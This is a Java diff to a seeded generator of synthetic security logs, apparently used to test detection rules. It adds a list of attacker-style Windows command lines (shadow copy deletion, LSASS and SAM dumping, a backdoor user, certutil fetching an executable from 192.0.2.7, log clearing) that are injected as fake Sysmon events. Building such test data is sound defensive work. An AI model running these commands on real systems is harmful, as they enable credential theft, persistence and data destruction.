@@ -10,7 +10,7 @@ import java.util.Random;
 /**
  * Lines of many log sources as a site has them, the same for the same seed: syslog of web servers
  * and sshd, Windows security and Sysmon as JSON, a proxy, CloudTrail. One in ten is a process
- * creation.
+ * creation. One thread.
  */
 final class MixedEvents {
   private static final long SEED = 42;
@@ -35,8 +35,35 @@ final class MixedEvents {
     " 0xffffffff -ForceV1"
   };
 
+  /** Command lines that rules of SigmaHQ look for. */
+  private static final String[] SUSPICIOUS = {
+    "vssadmin.exe delete shadows /all /quiet",
+    "whoami.exe /all",
+    "net.exe user backdoor Passw0rd /add",
+    "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+    "schtasks.exe /create /tn updater /tr C:\\Users\\Public\\u.exe /sc minute",
+    "reg.exe save hklm\\sam C:\\Users\\Public\\sam.hive",
+    "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe C:\\Users\\Public\\a.exe",
+    "wevtutil.exe cl Security",
+    "bcdedit.exe /set {default} recoveryenabled No",
+    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full"
+  };
+
+  private static final int FEW = 500;
+
   private final Random random = new Random(SEED);
   private final Messages syslog = new Messages();
+  private final int entities;
+
+  /** With some hundred hosts and users, and nothing suspicious. */
+  MixedEvents() {
+    this(FEW);
+  }
+
+  /** With so many hosts, as many users and as many addresses. */
+  MixedEvents(int entities) {
+    this.entities = entities;
+  }
 
   /** So many lines. */
   List<String> lines(int count) {
@@ -68,6 +95,49 @@ final class MixedEvents {
     return lines;
   }
 
+  /** Lines of which so many in a thousand are suspicious process creations. */
+  List<String> lines(int count, int perThousand) {
+    List<String> lines = lines(count);
+    for (int i = 0; i < count; i++) {
+      if (random.nextInt(1000) < perThousand) {
+        lines.set(i, suspicious());
+      }
+    }
+    return lines;
+  }
+
+  /** Half of them on the same few hosts. */
+  private String suspicious() {
+    String command = SUSPICIOUS[random.nextInt(SUSPICIOUS.length)];
+    int host = random.nextBoolean() ? random.nextInt(20) : random.nextInt(entities);
+    String program = command.substring(0, command.indexOf(' '));
+    return sysmonOf(
+        host,
+        1,
+        "Image",
+        "C:\\Windows\\System32\\" + program,
+        "CommandLine",
+        command,
+        "User",
+        "EXAMPLE\\user" + host,
+        "IntegrityLevel",
+        "High",
+        "Hashes",
+        hashes(),
+        "OriginalFileName",
+        program,
+        "ParentImage",
+        "C:\\Windows\\System32\\cmd.exe",
+        "ParentCommandLine",
+        "cmd.exe /c run.bat");
+  }
+
+  private String address() {
+    return entities <= FEW
+        ? "192.0.2." + random.nextInt(254)
+        : "2001:db8::%x:%x".formatted(1 + random.nextInt(1 + entities / 256), random.nextInt(256));
+  }
+
   private String processCreation() {
     int one = random.nextInt(IMAGES.length);
     String parent = IMAGES[random.nextInt(IMAGES.length)];
@@ -80,7 +150,7 @@ final class MixedEvents {
         "CurrentDirectory",
         "C:\\Windows\\system32\\",
         "User",
-        "EXAMPLE\\user" + random.nextInt(500),
+        "EXAMPLE\\user" + random.nextInt(entities),
         "IntegrityLevel",
         "Medium",
         "Hashes",
@@ -122,7 +192,7 @@ final class MixedEvents {
         "Security",
         4624,
         "TargetUserName",
-        "user" + random.nextInt(500),
+        "user" + random.nextInt(entities),
         "TargetDomainName",
         "EXAMPLE",
         "LogonType",
@@ -130,9 +200,9 @@ final class MixedEvents {
         "AuthenticationPackageName",
         "Kerberos",
         "WorkstationName",
-        "ws-" + random.nextInt(500),
+        "ws-" + random.nextInt(entities),
         "IpAddress",
-        "192.0.2." + random.nextInt(254),
+        address(),
         "IpPort",
         Integer.toString(random.nextInt(65_000)),
         "ProcessName",
@@ -145,13 +215,13 @@ final class MixedEvents {
         "Image",
         IMAGES[random.nextInt(IMAGES.length)],
         "User",
-        "EXAMPLE\\user" + random.nextInt(500),
+        "EXAMPLE\\user" + random.nextInt(entities),
         "Protocol",
         "tcp",
         "Initiated",
         "true",
         "SourceIp",
-        "192.0.2." + random.nextInt(254),
+        address(),
         "SourcePort",
         Integer.toString(random.nextInt(65_000)),
         "DestinationIp",
@@ -169,12 +239,12 @@ final class MixedEvents {
         IMAGES[random.nextInt(IMAGES.length)],
         "TargetFilename",
         "C:\\Users\\user"
-            + random.nextInt(500)
+            + random.nextInt(entities)
             + "\\AppData\\Local\\Temp\\"
             + random.nextInt()
             + ".tmp",
         "User",
-        "EXAMPLE\\user" + random.nextInt(500));
+        "EXAMPLE\\user" + random.nextInt(entities));
   }
 
   private String registry() {
@@ -238,14 +308,22 @@ final class MixedEvents {
     return json("Microsoft-Windows-Sysmon/Operational", id, fields);
   }
 
+  private String sysmonOf(int host, int id, String... fields) {
+    return json("Microsoft-Windows-Sysmon/Operational", host, id, fields);
+  }
+
   private String json(String channel, int id, String... fields) {
+    return json(channel, random.nextInt(entities), id, fields);
+  }
+
+  private String json(String channel, int host, int id, String... fields) {
     var text = new StringBuilder(512);
     text.append("{\"Channel\":\"")
         .append(channel)
         .append("\",\"EventID\":")
         .append(id)
         .append(",\"Computer\":\"ws-")
-        .append(random.nextInt(500))
+        .append(host)
         .append(".example.com\",\"UtcTime\":\"2026-03-18 10:00:00.")
         .append(100 + random.nextInt(900))
         .append('"');
